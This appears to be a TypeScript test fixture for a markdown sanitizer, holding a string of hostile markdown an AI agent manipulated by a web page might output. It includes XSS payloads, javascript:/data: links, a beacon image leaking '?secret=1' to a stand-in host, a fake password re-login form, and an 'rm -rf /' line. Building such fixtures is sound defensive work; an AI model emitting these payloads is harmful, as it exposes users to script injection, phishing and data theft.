/** A host that nobody may ask: whatever the page sends there would show a stranger that it was read. */
export const OUTSIDE_HOST = 'outside.example';
const OUTSIDE = `https://${OUTSIDE_HOST}`;

/** What an agent that was led on by a web page might write. */
export const hostileMarkdown = `
<script>window.hacked = 1</script>
<img src="${OUTSIDE}/tag.png" onerror="window.hacked = 1">
![beacon](${OUTSIDE}/beacon.png?secret=1)
![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LmhhY2tlZD0xIi8+)
<svg onload="window.hacked = 1"><use href="${OUTSIDE}/x.svg#a"/></svg>
<style>@import url(${OUTSIDE}/style.css); body { background: url(${OUTSIDE}/css.png) }</style>
<iframe src="${OUTSIDE}/frame" srcdoc="<script>parent.hacked = 1</script>"></iframe>
<form action="${OUTSIDE}/form"><input name="password"><button>Sign in again</button></form>
<link rel="stylesheet" href="${OUTSIDE}/link.css"><base href="${OUTSIDE}/"><meta http-equiv="refresh" content="0;url=${OUTSIDE}/meta">
<a href="javascript:window.hacked = 1" onclick="window.hacked = 1">html link</a>
<details open ontoggle="window.hacked = 1"><summary>x</summary></details>

[script link](javascript:window.hacked=1) [spaced](java\u0000script:window.hacked=1) [data link](data:text/html,<script>opener.hacked=1</script>)
[vbscript](vbscript:msgbox) [own address](/auth/session) [good link](${OUTSIDE}/page "title\u202eelttit")
[![picture in a link](${OUTSIDE}/inner.png)](${OUTSIDE}/outer)

[reference]: ${OUTSIDE}/reference.png
![by reference][reference]

| a | b |
| --- | --- |
| <img src=x onerror=window.hacked=1> | \`<script>window.hacked=1</script>\` |

\`\`\`html
<script>window.hacked = 1</script>
rm -rf \u202e/ txt.safe
\`\`\`

${'> '.repeat(200)}deep

the end of the attack
`;
